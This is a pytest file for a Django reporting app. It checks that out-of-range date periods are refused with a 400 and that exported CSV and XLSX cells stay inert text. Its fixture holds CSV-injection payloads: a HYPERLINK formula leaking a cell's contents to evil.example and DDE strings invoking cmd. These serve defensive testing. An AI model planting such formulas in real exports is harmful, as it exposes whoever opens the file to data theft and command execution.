"""What a hostile coordinator sends the reports (issue 20): a period outside the project's dates is refused
beside the field (400, no figure), never a server error; names typed to look like spreadsheet formulas leave
in the CSV and the XLSX as inert text, never as a formula."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from jimcase.tests.factories import team
from jimcase.tests.html import without_tokens
from reports.export import formula_like
from reports.forms import month_end
from reports.tests.helpers import at, make_triad, with_lead
from reports.views import REPORTS
from triads.models import ConsentOverride

HOSTILE_PERIODS = [
    ({"date_from": "0001-01-01", "date_to": "2026-06-30"}, "Vul een datum in vanaf 01-01-1990."),
    (
        {"date_from": "2026-01-01", "date_to": "9999-12-31"},
        "Vul een datum in die hoogstens een jaar na vandaag ligt.",
    ),
    ({"date_to": "9999-12-31"}, "Vul een datum in die hoogstens een jaar na vandaag ligt."),
]
KINDS = ["page", "csv", "xlsx"]


def url(spec, kind):
    return reverse(
        {
            "page": f"admin:{spec.url_name}",
            "csv": f"admin:{spec.csv_url_name}",
            "xlsx": f"admin:{spec.xlsx_url_name}",
        }[kind]
    )


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("period", "error"), HOSTILE_PERIODS, ids=["year-1", "year-9999", "only-year-9999"])
@pytest.mark.parametrize("spec", REPORTS, ids=[spec.slug for spec in REPORTS])
def test_a_period_outside_the_projects_dates_is_refused_beside_the_field(
    spec, period, error, kind, login, coordinator
):
    response = login(coordinator).get(url(spec, kind), period)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/html; charset=utf-8"  # the page with its error, not a file
    html = without_tokens(response)
    field = "date_from" if period.get("date_from") == "0001-01-01" else "date_to"
    # The error sits in the field's own block of the filter form, and no figure is shown.
    block = html.split(f'id="report-{field}"', 1)[1].split('class="report-filter"', 1)[0]
    assert error in block
    assert 'class="report-table"' not in html and "report-period" not in html


def test_a_period_is_whole_months_up_to_today(login, coordinator):
    """Whole months (reports.rules): the fields and the period line show the months the report covers."""
    period = {"date_from": "2026-01-15", "date_to": "2026-02-03"}
    html = login(coordinator).get(reverse("admin:reports_triads"), period).content.decode()
    assert "Periode: 01-01-2026 – 28-02-2026." in html
    assert 'value="2026-01-01"' in html and 'value="2026-02-28"' in html
    assert "Rapporten gaan over hele maanden: vanaf de eerste dag van de maand van deze datum." in html


#: Names typed to run as formulas when the export is opened (OWASP, "CSV injection").
TEAM_NAME = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'
DISPLAY_NAME = '@SUM(1+1)*cmd|" /C calc"!A0'
COORDINATOR_NAME = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_names(make_youth, organisation, lead, coordinator):
    evil = team(organisation, TEAM_NAME)
    lead.display_name = DISPLAY_NAME
    lead.save(update_fields=["display_name"])
    coordinator.display_name = COORDINATOR_NAME
    coordinator.save(update_fields=["display_name"])
    youths = make_youth(6, team=evil)
    with_lead(youths, lead)
    for youth in youths:
        triad = make_triad(youth, lead, datetime.date(2026, 1, 1), activated_on=datetime.date(2026, 2, 1))
        ConsentOverride.objects.create(
            triad=triad, by=coordinator, justification="Gemotiveerd", at=at(datetime.date(2026, 3, 1))
        )
    return evil


@pytest.mark.parametrize("spec", REPORTS, ids=[spec.slug for spec in REPORTS])
def test_names_that_look_like_formulas_are_inert_in_both_exports(spec, hostile_names, login, coordinator):
    client = login(coordinator)
    params = {"date_from": "2026-01-01", "date_to": "2026-06-30", "team": hostile_names.pk}
    text = client.get(reverse(f"admin:{spec.csv_url_name}"), params).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    # The team filter's row names the team: in the CSV with a leading quote, as OWASP advises.
    assert f"'{TEAM_NAME} (Jeugdhulp Test)" in cells
    assert not [cell for cell in cells if formula_like(cell)]

    sheet = load_workbook(
        io.BytesIO(client.get(reverse(f"admin:{spec.xlsx_url_name}"), params).content)
    ).active
    written = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in written if cell.data_type == "f"]
    team_cell = next(cell for cell in written if cell.value == f"{TEAM_NAME} (Jeugdhulp Test)")
    assert team_cell.data_type == "s" and team_cell.quotePrefix
    for cell in written:
        if formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_a_lead_and_a_coordinator_named_as_formulas_are_text(hostile_names, login, coordinator):
    client = login(coordinator)
    params = {"date_from": "2026-01-01", "date_to": "2026-06-30"}
    capacity = client.get(reverse("admin:reports_capacity_csv"), params).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(capacity), delimiter=";"))
    assert [row[1:3] for row in rows if row[1].endswith(DISPLAY_NAME)] == [
        [f"'{TEAM_NAME}: {DISPLAY_NAME}", "5"]
    ]
    consent = load_workbook(
        io.BytesIO(client.get(reverse("admin:reports_consent_xlsx"), params).content)
    ).active
    cell = next(c for row in consent.iter_rows() for c in row if c.value == COORDINATOR_NAME)
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.offset(column=1).value == 6  # her six overrides, exact (her own activity)


def test_a_period_that_starts_after_this_month_is_refused_beside_the_start(login, coordinator):
    next_month = month_end(timezone.localdate()) + datetime.timedelta(days=1)
    response = login(coordinator).get(reverse("admin:reports_funnel"), {"date_from": next_month.isoformat()})
    assert response.status_code == 400
    block = (
        response.content.decode().split('id="report-date_from"', 1)[1].split('class="report-filter"', 1)[0]
    )
    assert "Een rapportperiode kan niet na deze maand beginnen." in block
